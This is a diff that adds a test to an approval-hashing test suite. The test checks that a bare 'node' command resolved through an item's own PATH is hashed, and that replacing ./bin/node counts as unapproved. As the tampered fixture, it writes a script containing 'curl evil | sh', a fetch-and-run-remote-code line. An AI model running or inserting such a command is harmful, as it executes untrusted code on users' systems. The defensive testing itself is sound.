@@ -136,6 +136,25 @@ describe('an approval covers one kind and one content', () => {
     expect(unapproved([plugin()])).toHaveLength(1);
   });
 
+  it('a bare argv[0] that the item’s own PATH finds in its folder is hashed too (once: `node` from PATH=./bin changed unasked)', () => {
+    // Found in the review after issue 37: the spawn looks a bare command up on the variables it is
+    // given, so `command: node` with `env: {PATH: "./bin:/usr/bin"}` ran ./bin/node, a script of the
+    // shared folder that no hash covered.
+    const d = join(dir, 'path-argv0');
+    mkdirSync(join(d, 'bin'), { recursive: true });
+    writeFileSync(join(d, 'bin', 'node'), '#!/bin/sh\nexec /usr/bin/env -i node "$@"\n', { mode: 0o755 });
+    writeFileSync(join(d, 'server.js'), 'console.log(1)\n');
+    const server = () => serverItem('s', { command: 'node', args: ['server.js'], env: { PATH: `./bin:${process.env.PATH ?? '/usr/bin'}` } }, d);
+    const agent = () => agentItem({ command: ['node', 'server.js'], cwd: d, env: { PATH: join(d, 'bin') } });
+    approve([server(), agent()]);
+    expect(server().label).toContain(join(d, 'bin', 'node'));
+    expect(agent().label).toContain(join(d, 'bin', 'node'));
+    expect(unapproved([server(), agent()])).toEqual([]);
+    writeFileSync(join(d, 'bin', 'node'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
+    expect(unapproved([server()])).toHaveLength(1);
+    expect(unapproved([agent()])).toHaveLength(1);
+  });
+
   it('what `arbor train --yes` approved holds for a later command that reads the same content without knowing the config folder (eval, rollout, replay)', async () => {
     const cfgDir = join(dir, 'env38');
     mkdirSync(join(cfgDir, 'tools'), { recursive: true });
